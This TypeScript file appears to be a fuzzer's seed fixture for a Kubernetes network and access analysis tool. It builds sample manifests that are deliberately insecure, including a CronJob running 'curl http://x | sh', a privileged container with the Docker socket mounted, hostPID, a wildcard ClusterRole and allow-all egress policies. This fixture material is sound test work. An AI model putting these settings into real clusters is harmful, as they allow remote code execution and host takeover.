import { deployment, documents, hostNetworkPod, namespace, nodePort } from './manifests.ts'

/** One small estate that touches every dialect: what the fuzzer starts from. */
export const ESTATE: Readonly<Record<string, string>> = {
  'workloads.yaml': documents(
    namespace('shop'),
    hostNetworkPod(),
    deployment(
      'web',
      'shop',
      '      hostPID: true\n      dnsPolicy: None\n      dnsConfig: {nameservers: [8.8.8.8]}\n',
    ),
    nodePort(),
    `apiVersion: batch/v1
kind: CronJob
metadata: {name: backup, namespace: shop}
spec:
  schedule: "0 3 * * *"
  jobTemplate:
    spec:
      template:
        spec:
          containers:
          - name: c
            image: curl
            command: [sh, -c, "curl http://x | sh"]
            env: [{name: HTTPS_PROXY, value: "http://user:pw@proxy:3128"}, {name: NO_PROXY, value: "*"}]
            securityContext: {privileged: true, capabilities: {add: [NET_ADMIN, CAP_SYS_PTRACE]}}
            volumeMounts: [{name: sock, mountPath: /var/run/docker.sock}]
          volumes: [{name: sock, hostPath: {path: /var/run/docker.sock}}]
`,
  ),
  'policies.yaml': documents(
    `apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata:
  name: deny
  namespace: shop
  annotations:
    kubectl.kubernetes.io/last-applied-configuration: '{"apiVersion":"networking.k8s.io/v1","kind":"NetworkPolicy","metadata":{"name":"deny"},"spec":{"podSelector":{},"egress":[{"to":[{"ipBlock":{"cidr":"10.0.0.0/8"}}],"port":443}]}}'
spec: {podSelector: {matchExpressions: [{key: app, operator: NotIn, values: [x]}]}, policyTypes: [Egress], egress: [{to: [{ipBlock: {cidr: 0.0.0.0/0, except: [169.254.169.254/32]}}]}]}
`,
    `apiVersion: cilium.io/v2
kind: CiliumNetworkPolicy
metadata: {name: c, namespace: shop}
spec: {endpointSelector: {matchLabels: {"k8s:app": web}}, egress: [{toFQDNs: [{matchPattern: "*"}]}, {toEntities: [world]}], enableDefaultDeny: {egress: false}}
`,
    `apiVersion: cilium.io/v2
kind: CiliumEgressGatewayPolicy
metadata: {name: e}
spec: {selectors: [{podSelector: {}}], destinationCIDRs: [0.0.0.0/0], egressGateway: {nodeSelector: {matchLabels: {role: exit}}, egressIP: 192.0.2.1}}
`,
    `apiVersion: projectcalico.org/v3
kind: GlobalNetworkPolicy
metadata: {name: g}
spec: {tier: security, selector: "app == 'web' && !has(x) || tier in {'a', 'b'}", types: [Egress], egress: [{action: Allow, destination: {nets: [0.0.0.0/0]}}, {action: Pass}]}
`,
    `apiVersion: policy.networking.k8s.io/v1alpha1
kind: AdminNetworkPolicy
metadata: {name: a}
spec: {priority: 10, subject: {namespaces: {matchLabels: {env: prod}}}, egress: [{action: Deny, to: [{networks: [0.0.0.0/0]}]}]}
`,
  ),
  'mesh.yaml': documents(
    `apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata: {name: s, namespace: shop}
spec: {hosts: ["*.example.com"], resolution: NONE, ports: [{number: 443, protocol: TLS}]}
`,
    `apiVersion: networking.istio.io/v1
kind: Sidecar
metadata: {name: default, namespace: shop}
spec: {outboundTrafficPolicy: {mode: ALLOW_ANY}, egress: [{hosts: ["./*"]}]}
`,
    `apiVersion: v1
kind: ConfigMap
metadata: {name: istio, namespace: istio-system}
data:
  mesh: |
    accessLogFile: /dev/stdout
    outboundTrafficPolicy: {mode: REGISTRY_ONLY}
`,
    `apiVersion: v1
kind: ConfigMap
metadata: {name: coredns, namespace: kube-system}
data:
  Corefile: |
    (snip) {
        log
    }
    .:53 {
        import snip
        forward . tls://9.9.9.9 1.1.1.1 { force_tcp }
    }
`,
    `apiVersion: v1
kind: ConfigMap
metadata: {name: squid, namespace: shop}
data:
  squid.conf: |
    acl allowed dstdomain "/etc/squid/allow.txt"
    http_access allow allowed
    http_access deny all
  allow.txt: ".example.com"
`,
  ),
  'access.json': JSON.stringify({
    apiVersion: 'v1',
    kind: 'List',
    items: [
      {
        apiVersion: 'rbac.authorization.k8s.io/v1',
        kind: 'ClusterRole',
        metadata: { name: 'r' },
        rules: [{ apiGroups: ['', 'apps'], resources: ['pods', '*'], verbs: ['create', '*'] }],
      },
      {
        apiVersion: 'rbac.authorization.k8s.io/v1',
        kind: 'ClusterRoleBinding',
        metadata: { name: 'b' },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'r' },
        subjects: [{ kind: 'ServiceAccount', name: 'web', namespace: 'shop' }],
      },
      {
        apiVersion: 'v1',
        kind: 'Node',
        metadata: { name: 'n1', labels: { 'kubernetes.io/os': 'linux' } },
        spec: {
          providerID: 'aws:///eu-west-1a/i-1',
          podCIDRs: ['10.0.0.0/24'],
          taints: [{ key: 'a', effect: 'NoSchedule' }],
        },
        status: {
          addresses: [{ type: 'ExternalIP', address: '198.51.100.1' }],
          nodeInfo: { kubeletVersion: 'v1.31.0' },
        },
      },
      {
        apiVersion: 'postern.dev/v1alpha1',
        kind: 'HostAccessException',
        metadata: { name: 'h' },
        spec: { match: { names: ['agent'] }, owner: 'a', justification: 'j', expires: '2027-01-01' },
      },
    ],
  }),
  'pods.json': JSON.stringify({
    kind: 'PodList',
    apiVersion: 'v1',
    items: [
      {
        metadata: {
          name: 'web-5d4f8-x',
          namespace: 'shop',
          labels: { 'pod-template-hash': '5d4f8' },
          ownerReferences: [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-5d4f8', controller: true }],
        },
        spec: {
          nodeName: 'n1',
          containers: [{ name: 'c', image: 'i' }],
          ephemeralContainers: [{ name: 'debug', image: 'busybox' }],
        },
        status: { phase: 'Running', podIPs: [{ ip: '10.0.0.7' }] },
      },
    ],
  }),
}
